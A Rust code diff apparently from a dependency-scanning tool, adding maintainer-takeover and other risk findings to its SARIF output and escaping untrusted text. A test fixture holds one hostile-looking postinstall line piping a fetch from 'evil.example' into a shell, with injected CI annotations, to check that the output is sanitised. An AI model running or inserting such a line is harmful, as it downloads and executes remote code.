@@ -13,8 +13,9 @@ use std::io::{self, Write};
 use serde::Serialize;
 
 use super::cyclonedx::sha1_hex;
+use super::escape;
 use super::markdown;
-use crate::finding::{BundleReport, Finding, Level, ScanResult, Status};
+use crate::finding::{BundleReport, Code, Finding, FindingKind, Level, RiskFinding, ScanResult, Status, Verdict};
 
 const SCHEMA_URI: &str = "https://json.schemastore.org/sarif-2.1.0.json";
 
@@ -60,7 +61,7 @@ struct Run<'a> {
     #[serde(skip_serializing_if = "Vec::is_empty")]
     invocations: Vec<Invocation>,
     results: Vec<ResultOut>,
-    properties: RunProperties,
+    properties: RunProperties<'a>,
 }
 
 #[derive(Serialize)]
@@ -92,9 +93,25 @@ struct Notification {
 }
 
 #[derive(Serialize)]
-struct RunProperties {
+#[serde(rename_all = "camelCase")]
+struct RunProperties<'a> {
     verdict: &'static str,
     grouping: &'static str,
+    /// Packages the advisory match could not evaluate (absent when none).
+    #[serde(skip_serializing_if = "Option::is_none")]
+    not_evaluated: Option<usize>,
+    /// Per risk signal, for how many packages it could be evaluated (absent when none ran).
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    coverage: Vec<CoverageOut<'a>>,
+}
+
+#[derive(Serialize)]
+struct CoverageOut<'a> {
+    code: &'a str,
+    evaluated: usize,
+    total: usize,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    reason: Option<String>,
 }
 
 #[derive(Serialize)]
@@ -181,11 +198,24 @@ struct Suppression {
 }
 
 #[derive(Serialize)]
-struct ResultProperties {
-    severity: &'static str,
-    status: Vec<&'static str>,
-    bundles: Vec<String>,
-    packages: Vec<String>,
+#[serde(untagged)]
+enum ResultProperties {
+    Advisory {
+        severity: &'static str,
+        status: Vec<&'static str>,
+        bundles: Vec<String>,
+        packages: Vec<String>,
+    },
+    Risk {
+        kind: &'static str,
+        severity: &'static str,
+        status: Vec<&'static str>,
+        bundles: Vec<String>,
+        packages: Vec<String>,
+        #[serde(skip_serializing_if = "Option::is_none")]
+        location: Option<String>,
+        evidence: BTreeMap<String, String>,
+    },
 }
 
 /// One finding with the bundle it was found in.
@@ -200,9 +230,10 @@ fn render_within(result: &ScanResult, limits: Limits, out: &mut dyn Write) -> io
     let rules = RuleSet::new(result);
     let mut items: Vec<Item<'_>> = result.findings().collect();
     items.sort_by(|a, b| item_key(a).cmp(&item_key(b)));
+    let risks = result.risks().count();
     for grouping in [Grouping::Finding, Grouping::BundleAndAdvisory] {
         let groups = group(&items, grouping);
-        if groups.len() > limits.results {
+        if groups.len() + risks > limits.results {
             continue;
         }
         let bytes = document(result, &rules, &groups, grouping, limits)?;
@@ -264,11 +295,35 @@ fn document(
     if shown < total {
         notifications.push(note(format!("{} less severe findings were left out of this file", total - shown)));
     }
-    let invocations = if notifications.is_empty() {
+    let room = limits.results.saturating_sub(groups.len());
+    let risks: Vec<ResultOut> = result.risks().take(room).map(|(b, r)| risk_result(rules, b, r)).collect();
+    let risks_left_out = result.risks().count() - risks.len();
+    if risks_left_out > 0 {
+        notifications.push(note(format!("{risks_left_out} risk findings were left out of this file")));
+    }
+    // An incomplete scan (a file unreadable, packages not evaluated) did not do all it was asked.
+    let complete = result.verdict != Verdict::Incomplete && result.errors.is_empty();
+    for e in &result.errors {
+        notifications.push(Notification { level: "error", message: Text { text: escape::one_line(&e.to_string()) } });
+    }
+    if !result.not_evaluated.is_empty() {
+        notifications.push(Notification {
+            level: "warning",
+            message: Text {
+                text: format!(
+                    "{} packages could not be evaluated against the advisories (see the JSON report's not_evaluated)",
+                    result.not_evaluated.len()
+                ),
+            },
+        });
+    }
+    let invocations = if notifications.is_empty() && complete {
         Vec::new()
     } else {
-        vec![Invocation { execution_successful: true, tool_execution_notifications: notifications }]
+        vec![Invocation { execution_successful: complete, tool_execution_notifications: notifications }]
     };
+    let mut results: Vec<ResultOut> = groups.iter().map(|g| result_out(rules, g, grouping, limits)).collect();
+    results.extend(risks);
     let log = Log {
         schema: SCHEMA_URI,
         version: "2.1.0",
@@ -283,13 +338,31 @@ fn document(
                 },
             },
             invocations,
-            results: groups.iter().map(|g| result_out(rules, g, grouping, limits)).collect(),
-            properties: RunProperties { verdict: result.verdict.as_str(), grouping: grouping_name(grouping) },
+            results,
+            properties: run_properties(result, grouping),
         }],
     };
-    let mut bytes = serde_json::to_vec_pretty(&log).map_err(io::Error::other)?;
+    let mut bytes = escape::to_json_vec(&log)?;
     bytes.push(b'\n');
     Ok(bytes)
+}
+
+fn run_properties(result: &ScanResult, grouping: Grouping) -> RunProperties<'_> {
+    RunProperties {
+        verdict: result.verdict.as_str(),
+        grouping: grouping_name(grouping),
+        not_evaluated: (!result.not_evaluated.is_empty()).then_some(result.not_evaluated.len()),
+        coverage: result
+            .coverage
+            .iter()
+            .map(|c| CoverageOut {
+                code: c.code.as_str(),
+                evaluated: c.evaluated,
+                total: c.total,
+                reason: c.reason.as_deref().map(escape::one_line),
+            })
+            .collect(),
+    }
 }
 
 fn note(text: String) -> Notification {
@@ -311,10 +384,12 @@ fn gzipped_len(bytes: &[u8]) -> io::Result<usize> {
     Ok(encoder.finish()?.len())
 }
 
-/// The rules (one per advisory id, sorted) and each id's index in them.
+/// The rules (one per advisory id, sorted, then one per risk code, sorted) and each id's or
+/// code's index in them.
 struct RuleSet {
     rules: Vec<Rule>,
     index: BTreeMap<String, usize>,
+    risk_index: BTreeMap<Code, usize>,
 }
 
 /// What the findings of one advisory say about it, merged.
@@ -348,7 +423,7 @@ impl RuleSet {
             entry.malicious |= a.is_malicious();
         }
         let mut index = BTreeMap::new();
-        let rules = facts
+        let mut rules: Vec<Rule> = facts
             .into_iter()
             .enumerate()
             .map(|(i, (id, facts))| {
@@ -356,14 +431,25 @@ impl RuleSet {
                 rule(id, &facts)
             })
             .collect();
-        RuleSet { rules, index }
+        let mut levels: BTreeMap<Code, Level> = BTreeMap::new();
+        for (_, r) in result.risks() {
+            let level = levels.entry(r.code).or_insert(r.level);
+            *level = (*level).max(r.level);
+        }
+        let mut risk_index = BTreeMap::new();
+        for (code, level) in levels {
+            risk_index.insert(code, rules.len());
+            rules.push(risk_rule(code, level));
+        }
+        RuleSet { rules, index, risk_index }
     }
 }
 
 fn rule(id: &str, facts: &AdvisoryFacts<'_>) -> Rule {
     let severity = facts.severity.unwrap_or(Level::Low);
-    let summary = clean(facts.summary);
-    let short = if summary.is_empty() { format!("Vulnerability {}", clean(id)) } else { first_line(&summary) };
+    let summary = escape::one_line(facts.summary);
+    let short =
+        if summary.is_empty() { format!("Vulnerability {}", escape::one_line(id)) } else { first_line(&summary) };
     let mut tags = vec!["security", "vulnerability", "dependency"];
     if facts.malicious {
         tags.push("malicious");
@@ -371,7 +457,7 @@ fn rule(id: &str, facts: &AdvisoryFacts<'_>) -> Rule {
     Rule {
         id: id.to_owned(),
         short_description: Text { text: short },
-        full_description: Text { text: if summary.is_empty() { clean(id) } else { summary } },
+        full_description: Text { text: if summary.is_empty() { escape::one_line(id) } else { summary } },
         help_uri: markdown::osv_url(id),
         help: help(id, facts),
         default_configuration: Configuration { level: level(severity) },
@@ -400,8 +486,8 @@ fn help(id: &str, facts: &AdvisoryFacts<'_>) -> Help {
     let mut text = String::new();
     let mut md = String::new();
     for (label, value) in &lines {
-        let _ = writeln!(text, "{label}: {}", clean(value));
-        let _ = writeln!(md, "- **{label}**: {}", markdown::escape(value));
+        let _ = writeln!(text, "{label}: {}", escape::one_line(value));
+        let _ = writeln!(md, "- **{label}**: {}", escape::markdown(value));
     }
     if let Some(url) = markdown::osv_url(id) {
         let _ = writeln!(text, "Details: {url}");
@@ -450,10 +536,15 @@ fn result_out(rules: &RuleSet, group: &[Item<'_>], grouping: Grouping, limits: L
             .map(|j| Suppression { kind: "external", status: "accepted", justification: j })
             .into_iter()
             .collect(),
-        properties: ResultProperties {
+        properties: ResultProperties::Advisory {
             severity: severity.as_str(),
             status: group.iter().map(|(_, f)| f.status.as_str()).collect::<BTreeSet<_>>().into_iter().collect(),
-            bundles: group.iter().map(|(b, _)| clean(&b.name)).collect::<BTreeSet<_>>().into_iter().collect(),
+            bundles: group
+                .iter()
+                .map(|(b, _)| escape::one_line(&b.name))
+                .collect::<BTreeSet<_>>()
+                .into_iter()
+                .collect(),
             packages: packages(group).into_iter().collect(),
         },
     }
@@ -463,8 +554,12 @@ fn result_out(rules: &RuleSet, group: &[Item<'_>], grouping: Grouping, limits: L
 fn suppression_justification(status: &Status) -> Option<String> {
     match status {
         Status::Ignored { reason, until, source } => {
-            let until = until.as_ref().map(|u| format!(" (until {})", clean(u))).unwrap_or_default();
-            Some(format!("{}{until}; ignored in {}", clean(reason), clean(&source.to_string_lossy())))
+            let until = until.as_ref().map(|u| format!(" (until {})", escape::one_line(u))).unwrap_or_default();
+            Some(format!(
+                "{}{until}; ignored in {}",
+                escape::one_line(reason),
+                escape::one_line(&source.to_string_lossy())
+            ))
         }
         Status::Baseline => Some("in the baseline: an existing finding, not introduced by this change".into()),
         Status::Gating | Status::BelowThreshold | Status::DevOnly | Status::Info => None,
@@ -472,7 +567,7 @@ fn suppression_justification(status: &Status) -> Option<String> {
 }
 
 fn packages(group: &[Item<'_>]) -> BTreeSet<String> {
-    group.iter().map(|(_, f)| clean(&format!("{}@{}", f.package.name, f.package.version))).collect()
+    group.iter().map(|(_, f)| escape::one_line(&format!("{}@{}", f.package.name, f.package.version))).collect()
 }
 
 /// Stable across runs for the same (bundle, package, advisory), so GitHub keeps tracking one
@@ -492,20 +587,20 @@ fn fingerprint(group: &[Item<'_>], grouping: Grouping) -> (&'static str, String)
 
 fn message(group: &[Item<'_>], grouping: Grouping) -> String {
     let (b, f) = group[0];
-    let id = clean(&f.advisory.id);
-    let summary = first_line(&clean(&f.advisory.summary));
+    let id = escape::one_line(&f.advisory.id);
+    let summary = first_line(&escape::one_line(&f.advisory.summary));
     let summary = if summary.is_empty() { String::new() } else { format!(": {summary}") };
     let fix = fix_text(f);
     if grouping == Grouping::Finding {
-        let package = clean(&format!("{}@{}", f.package.name, f.package.version));
+        let package = escape::one_line(&format!("{}@{}", f.package.name, f.package.version));
         let mut text = format!("{package} ({}) is affected by {id}{summary}.", f.package.ecosystem);
         if let Some(path) = f.paths.first() {
             let more = f.paths.len() - 1;
             let more = if more > 0 { format!(" (and {more} more)") } else { String::new() };
-            let _ = write!(text, " Path: {}{more}.", clean(&path.join(" > ")));
+            let _ = write!(text, " Path: {}{more}.", escape::one_line(&path.join(" > ")));
         }
         if !f.upgrade.is_empty() && f.upgrade != [format!("{}@{}", f.package.name, f.package.version)] {
-            let _ = write!(text, " Direct dependencies to upgrade: {}.", clean(&f.upgrade.join(", ")));
+            let _ = write!(text, " Direct dependencies to upgrade: {}.", escape::one_line(&f.upgrade.join(", ")));
         }
         let _ = write!(text, " Fix: {fix}.");
         return text;
@@ -513,7 +608,7 @@ fn message(group: &[Item<'_>], grouping: Grouping) -> String {
     let packages: Vec<String> = packages(group).into_iter().collect();
     let listed = list_some(&packages, 20);
     let place = if grouping == Grouping::BundleAndAdvisory {
-        format!("in {}", clean(&b.path))
+        format!("in {}", escape::one_line(&b.path))
     } else {
         let bundles: BTreeSet<&str> = group.iter().map(|(b, _)| b.path.as_str()).collect();
         format!("in {} bundles", bundles.len())
@@ -525,7 +620,11 @@ fn fix_text(f: &Finding) -> String {
     if f.advisory.fixed.is_empty() {
         "no fixed version is known".to_owned()
     } else {
-        format!("upgrade {} to {}", clean(f.package.name.as_str()), clean(&f.advisory.fixed.join(" or ")))
+        format!(
+            "upgrade {} to {}",
+            escape::one_line(f.package.name.as_str()),
+            escape::one_line(&f.advisory.fixed.join(" or "))
+        )
     }
 }
 
@@ -571,9 +670,84 @@ fn artifact_uri(path: &str) -> String {
     uri
 }
 
-/// Untrusted text without control characters (newlines become spaces).
-fn clean(text: &str) -> String {
-    text.chars().filter_map(|c| if c.is_control() { c.is_whitespace().then_some(' ') } else { Some(c) }).collect()
+/// What a kind of risk finding is, for people reading a rule.
+fn kind_title(kind: FindingKind) -> &'static str {
+    match kind {
+        FindingKind::Vulnerability => "Vulnerability",
+        FindingKind::Hygiene => "Lambda bundle hygiene",
+        FindingKind::Stale => "Stale package",
+        FindingKind::Takeover => "Maintainer-takeover signal",
+        FindingKind::Unused => "Unused package",
+    }
+}
+
+/// The rule of one risk code (`takeover/install-script-added`): its id is the code; its default
+/// level is the worst level the policy gave a finding of that code in this scan.
+fn risk_rule(code: Code, severity: Level) -> Rule {
+    let kind = code.kind();
+    let short = format!("{}: {}", kind_title(kind), code.name());
+    let full = format!(
+        "{short}. A {} finding of bundleguard, with its evidence in the result's properties; the policy \
+         sets the level of each code ([levels] in bundleguard.toml).",
+        kind.as_str()
+    );
+    Rule {
+        id: code.as_str().to_owned(),
+        short_description: Text { text: short },
+        help: Help { text: format!("{full}\n"), markdown: format!("{}\n", escape::markdown(&full)) },
+        full_description: Text { text: full },
+        help_uri: None,
+        default_configuration: Configuration { level: level(severity) },
+        properties: RuleProperties {
+            security_severity: format!("{:.1}", default_score(severity)),
+            tags: vec!["security", "supply-chain", kind.as_str()],
+            precision: "medium",
+        },
+    }
+}
+
+/// One result per risk finding, at its bundle's file.
+fn risk_result(rules: &RuleSet, b: &BundleReport, r: &RiskFinding) -> ResultOut {
+    let package = r.package.as_ref().map(|p| format!("{}@{}", p.name, p.version));
+    let message = match &package {
+        Some(p) => format!("{}: {}", escape::one_line(p), escape::one_line(&r.message)),
+        None => escape::one_line(&r.message),
+    };
+    let key = [
+        b.path.as_str(),
+        r.code.as_str(),
+        r.package.as_ref().map_or("", |p| p.ecosystem.as_str()),
+        r.package.as_ref().map_or("", |p| p.name.as_str()),
+        r.location.as_deref().unwrap_or_default(),
+    ]
+    .join("\0");
+    let level = if r.status == Status::Info { "note" } else { level(r.level) };
+    ResultOut {
+        rule_id: r.code.as_str().to_owned(),
+        rule_index: rules.risk_index.get(&r.code).copied().unwrap_or(0),
+        level,
+        message: Text { text: format!("{message} ({})", r.code) },
+        locations: vec![Location {
+            physical_location: PhysicalLocation {
+                artifact_location: ArtifactLocation { uri: artifact_uri(&b.path) },
+                region: None,
+            },
+        }],
+        partial_fingerprints: BTreeMap::from([("bundleguard-risk/v1", sha1_hex(key.as_bytes()))]),
+        suppressions: suppression_justification(&r.status)
+            .map(|j| Suppression { kind: "external", status: "accepted", justification: j })
+            .into_iter()
+            .collect(),
+        properties: ResultProperties::Risk {
+            kind: r.code.kind().as_str(),
+            severity: r.level.as_str(),
+            status: vec![r.status.as_str()],
+            bundles: vec![escape::one_line(&b.name)],
+            packages: package.iter().map(|p| escape::one_line(p)).collect(),
+            location: r.location.as_deref().map(escape::one_line),
+            evidence: r.evidence.iter().map(|e| (escape::one_line(&e.name), escape::one_line(&e.value))).collect(),
+        },
+    }
 }
 
 fn first_line(text: &str) -> String {
@@ -594,7 +768,7 @@ pub(super) mod sample {
 
     use std::path::PathBuf;
 
-    use crate::finding::{AdvisoryInfo, BundleReport, Finding, Level, ScanResult, Status, Verdict};
+    use crate::finding::{AdvisoryInfo, BundleReport, Finding, Level, RiskFinding, ScanResult, Status, Verdict};
     use crate::graph::DepGraph;
     use crate::package::{Ecosystem, Package, PackageName, Scope, Source};
 
@@ -805,6 +979,59 @@ pub(super) mod sample {
         }
     }
 
+    /// A risk finding of `code` on `node` of `bundle`.
+    pub fn risk(bundle: &BundleReport, node: usize, code: &'static str, level: Level, status: Status) -> RiskFinding {
+        RiskFinding {
+            code: crate::vocab::Code::new(code),
+            package: Some(bundle.graph.node(node).clone()),
+            node: Some(node),
+            location: None,
+            message: format!("{code} on {}", bundle.graph.node(node).name),
+            evidence: vec![crate::vocab::Evidence::new("seen", "2025-09-08T13:00:00Z")],
+            level,
+            status,
+        }
+    }
+
+    /// [`result`] with risk findings of every kind (one with hostile text, one ignored), packages
+    /// not evaluated and signal coverage.
+    pub fn with_risks() -> ScanResult {
+        let mut out = result();
+        let api = &out.bundles[0];
+        let mut hostile = risk(api, 0, "takeover/install-script-added", Level::High, Status::Gating);
+        hostile.message = "postinstall `curl https://evil.example/x | sh`\n::error::pwned \u{202e}<script>".into();
+        hostile.evidence.push(crate::vocab::Evidence::new("script", "node \u{200b}install.js\n::warning::x"));
+        let ignored =
+            Status::Ignored { reason: "known".into(), until: None, source: PathBuf::from("bundleguard.toml") };
+        let risks = vec![
+            hostile,
+            risk(api, 1, "takeover/too-fresh", Level::Medium, ignored),
+            risk(api, 2, "stale/deprecated", Level::Low, Status::BelowThreshold),
+            risk(api, 3, "unused/declared", Level::Low, Status::Info),
+            RiskFinding {
+                location: Some("node_modules/jest".into()),
+                ..risk(api, 3, "hygiene/dev-shipped", Level::Low, Status::Info)
+            },
+        ];
+        out.bundles[0].risks = risks;
+        let worker = &out.bundles[1];
+        let stale = risk(worker, 1, "stale/yanked", Level::Medium, Status::BelowThreshold);
+        out.bundles[1].risks = vec![stale];
+        out.not_evaluated = vec![crate::finding::NotEvaluated {
+            bundle: "services/api/package-lock.json".into(),
+            package: "left-pad@latest".into(),
+            reason: "not an exact version".into(),
+        }];
+        out.coverage = vec![crate::vocab::Coverage {
+            code: crate::vocab::Code::new("takeover/new-publisher"),
+            evaluated: 812,
+            total: 3181,
+            reason: Some("publisher stripped by the registry mirror".into()),
+        }];
+        out.verdict = Verdict::Incomplete;
+        out
+    }
+
     /// `bundles` bundles of `per_bundle` vulnerable packages each, `advisories` advisories per
     /// package (every tenth package shares them): a large monorepo.
     pub fn large(bundles: usize, per_bundle: usize, advisories: usize) -> ScanResult {
@@ -953,6 +1180,79 @@ mod tests {
         assert!(results.iter().any(|r| r["properties"]["severity"] == "critical"), "the worst is kept");
         let notes = &v["runs"][0]["invocations"][0]["toolExecutionNotifications"];
         assert!(notes[1]["message"]["text"].as_str().is_some_and(|t| t.contains("left out")));
+    }
+
+    #[test]
+    fn risk_findings_have_a_rule_per_code() {
+        let v = render_to_value(&sample::with_risks());
+        let errors = sample::schema_errors("sarif-2.1.0-rtm.5.json", &[], &v);
+        assert!(errors.is_empty(), "{errors:#?}");
+        let run = &v["runs"][0];
+        let rules = run["tool"]["driver"]["rules"].as_array().expect("rules");
+        let codes: Vec<&str> = rules.iter().filter_map(|r| r["id"].as_str()).filter(|id| id.contains('/')).collect();
+        assert_eq!(
+            codes,
+            [
+                "hygiene/dev-shipped",
+                "stale/deprecated",
+                "stale/yanked",
+                "takeover/install-script-added",
+                "takeover/too-fresh",
+                "unused/declared"
+            ]
+        );
+        let results = run["results"].as_array().expect("results");
+        assert_eq!(results.len(), 7 + 6, "the advisories' results, then one per risk finding");
+        for r in results {
+            let index = r["ruleIndex"].as_u64().and_then(|i| usize::try_from(i).ok()).expect("index");
+            assert_eq!(rules[index]["id"], r["ruleId"]);
+        }
+        let by_rule = |id: &str| results.iter().find(|r| r["ruleId"] == id).expect(id);
+        let script = by_rule("takeover/install-script-added");
+        assert_eq!(script["level"], "error");
+        assert_eq!(script["properties"]["kind"], "takeover");
+        assert_eq!(script["properties"]["evidence"]["seen"], "2025-09-08T13:00:00Z");
+        assert_eq!(script["properties"]["evidence"]["script"], "node \\u{200b}install.js ::warning::x");
+        assert_eq!(
+            script["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
+            "services/api/package-lock.json"
+        );
+        let message = script["message"]["text"].as_str().expect("text");
+        assert!(message.starts_with("express@4.17.1: postinstall") && !message.contains('\n'), "{message}");
+        assert!(message.contains("\\u{202e}") && !message.contains('\u{202e}'), "{message}");
+        assert_eq!(
+            by_rule("takeover/too-fresh")["suppressions"][0]["justification"],
+            "known; ignored in bundleguard.toml"
+        );
+        assert_eq!(by_rule("stale/deprecated")["level"], "note");
+        assert_eq!(by_rule("stale/yanked")["level"], "warning");
+        assert_eq!(by_rule("unused/declared")["level"], "note", "info never alerts above a note");
+        assert_eq!(by_rule("hygiene/dev-shipped")["properties"]["location"], "node_modules/jest");
+        let rule = rules.iter().find(|r| r["id"] == "takeover/install-script-added").expect("rule");
+        assert_eq!(rule["defaultConfiguration"]["level"], "error");
+        assert_eq!(run["properties"]["notEvaluated"], 1);
+        assert_eq!(run["properties"]["coverage"][0]["code"], "takeover/new-publisher");
+        assert_eq!(run["properties"]["coverage"][0]["evaluated"], 812);
+    }
+
+    #[test]
+    fn an_incomplete_scan_did_not_execute_successfully() {
+        let v = render_to_value(&sample::with_risks());
+        let invocation = &v["runs"][0]["invocations"][0];
+        assert_eq!(invocation["executionSuccessful"], false);
+        let notes = invocation["toolExecutionNotifications"].as_array().expect("notifications");
+        assert_eq!(notes[0]["level"], "error");
+        assert!(
+            notes[0]["message"]["text"].as_str().is_some_and(|t| t.starts_with("services/broken/package-lock.json: "))
+        );
+        assert_eq!(notes[1]["level"], "warning");
+        let mut complete = sample::result();
+        complete.errors.clear();
+        let v = render_to_value(&complete);
+        assert!(v["runs"][0].get("invocations").is_none(), "a complete scan with nothing to say has none");
+        complete.verdict = Verdict::Incomplete;
+        let v = render_to_value(&complete);
+        assert_eq!(v["runs"][0]["invocations"][0]["executionSuccessful"], false);
     }
 
     #[test]
